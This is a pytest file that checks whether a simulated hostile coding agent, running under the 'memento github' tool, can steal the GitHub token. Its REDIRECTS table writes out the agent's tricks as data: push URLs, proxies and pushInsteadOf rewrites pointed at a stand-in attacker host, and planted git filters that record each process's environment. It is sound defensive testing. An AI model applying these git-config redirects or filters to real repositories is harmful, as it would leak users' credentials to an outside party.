"""The token against a hostile agent, in real `memento github` runs: the origin served over
HTTP on 127.0.0.1 (it wants the token), the fake GitHub, and ``testing/agents/hostile.py``
redirecting the push (a push URL, a rewrite, a proxy) to a listener standing in for the
attacker, locally in .git/config or in the user's global gitconfig, while a git filter it
planted records the environment of every git that runs it. The token sits in memento's
own environment, as on a runner."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from memento_gh.errors import UserError
from testing.action_runs import TOKEN, ActionProject, RunResult
from testing.agents import Action, hostile_command, hostile_env
from testing.attacker import Listener
from testing.fake_github import FakeGitHub
from testing.repos import GitHttpServer, git
from testing.ticks import one_phase, plan_of, task

pytestmark = [pytest.mark.usefixtures("isolated_git"), pytest.mark.timeout(120)]

ENCODED = "eC1hY2Nlc3MtdG9rZW46Z2hzX3Rlc3RfdG9rZW5fMDEyMzQ1Njc4OQ=="  # x-access-token:TOKEN
WORK: Action = {"write": "src/a.py", "text": "A = 1\n"}
#: A filter on every path: it records the environment of the git that runs it.
FILTER = {
    "filter.wall.clean": "{record} --inject",
    "filter.wall.smudge": "{record}",
    "diff.wall.textconv": "{record} --textconv",
}
ATTRIBUTES = "* filter=wall diff=wall\n"


class Redirect(NamedTuple):
    steps: list[Action]
    #: The agent changed the checkout's own git files: the attempt fails, rolled back.
    violation: bool


REDIRECTS = {
    "push url in .git/config": Redirect(
        [
            {"config": {"remote.origin.pushurl": "{attacker}/steal", **FILTER}},
            {"write": ".git/info/attributes", "text": ATTRIBUTES},
        ],
        violation=True,
    ),
    "proxy in .git/config": Redirect(
        [
            {"config": {"http.proxy": "{attacker}", **FILTER}},
            {"write": ".git/info/attributes", "text": ATTRIBUTES},
        ],
        violation=True,
    ),
    "push rewrite in the global gitconfig": Redirect(
        [
            {"config": {"url.{attacker}/steal.pushInsteadOf": "{origin}"}, "file": "~/.gitconfig"},
            {"config": FILTER, "file": "~/.gitconfig"},
            {"write": "~/.config/git/attributes", "text": ATTRIBUTES},
        ],
        violation=False,
    ),
    "proxy in the global gitconfig": Redirect(
        [
            {"config": {"http.proxy": "{attacker}", **FILTER}, "file": "~/.gitconfig"},
            {"write": "~/.config/git/attributes", "text": ATTRIBUTES},
        ],
        violation=False,
    ),
}


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    with FakeGitHub("octo/project", TOKEN) as server:
        yield server


@pytest.fixture
def attacker() -> Iterator[Listener]:
    with Listener() as listener:
        yield listener


def records(folder: Path) -> list[dict[str, Any]]:
    return [json.loads(path.read_text()) for path in sorted(folder.glob("record-*.json"))]


def leaks(environment: Mapping[str, str]) -> list[str]:
    """The variables of ``environment`` that hold the token, as it is or as git's header."""
    return [name for name, value in environment.items() if TOKEN in value or ENCODED in value]


@pytest.mark.parametrize("kind", list(REDIRECTS))
def test_a_redirected_push_sends_the_token_nowhere_and_no_planted_program_sees_it(
    tmp_path: Path,
    github: FakeGitHub,
    attacker: Listener,
    isolated_git: Path,
    monkeypatch: pytest.MonkeyPatch,
    kind: str,
) -> None:
    case = REDIRECTS[kind]
    outside = tmp_path / "seen"
    verify = f"`env > {outside}/verify-env.txt; grep -q A src/a.py`"
    plan = plan_of([one_phase(task("T-101", verify=verify), task("T-102"), task("T-103"))])
    project = ActionProject(tmp_path, github, plan)
    git(project.origin, "config", "http.receivepack", "true")
    outside.mkdir()
    steps = [WORK, *case.steps, {"dump_env": f"{outside}/agent-env.json"}]
    env = {
        "MEMENTO_AGENT_CMD": hostile_command(),
        **hostile_env(steps, home=isolated_git, record=outside, attacker=attacker.url),
    }
    # on a runner the token is in memento's own environment, and so in every child's
    monkeypatch.setenv("MEMENTO_GITHUB_TOKEN", TOKEN)
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)

    with GitHttpServer(project.origin.parent, TOKEN) as served:
        result: RunResult | UserError
        try:
            result = project.run("schedule", env=env, origin_url=served.url(project.origin.name))
        except UserError as error:
            result = error

    assert [r.target for r in attacker.requests] == [], [
        (r.method, r.target, r.carries(TOKEN)) for r in attacker.requests
    ]
    memento_ran = [entry for entry in records(outside) if "MEMENTO_RUN" not in entry["env"]]
    assert [(entry["argv"], leaks(entry["env"])) for entry in memento_ran] == []
    assert all(not leaks(entry["env"]) for entry in records(outside))
    assert leaks(json.loads((outside / "agent-env.json").read_text())) == []
    assert isinstance(result, RunResult), result
    assert result.code == 0, result.said
    assert served.requests  # the pushes went to the origin, with the token
    if case.violation:
        assert project.marker("T-101") == " "
        assert project.subjects()[0].startswith("memento: T-101 failed"), project.subjects()
        assert "git's configuration" in project.show("docs/TICK_STATUS.md")
        checkout = project.tmp / f"run-{project.runs}" / "checkout"
        config = (checkout / ".git/config").read_text()
        assert attacker.url not in config and "wall" not in config
        assert not (checkout / ".git/info/attributes").exists()
    else:
        assert project.marker("T-101") == "x"
        assert project.show("src/a.py") == "A = 1\n"  # no filter ran on memento's commit
        assert leaks(dict(_env_lines(outside / "verify-env.txt"))) == []


def _env_lines(path: Path) -> Iterator[tuple[str, str]]:
    for line in path.read_text().splitlines():
        name, _, value = line.partition("=")
        yield name, value
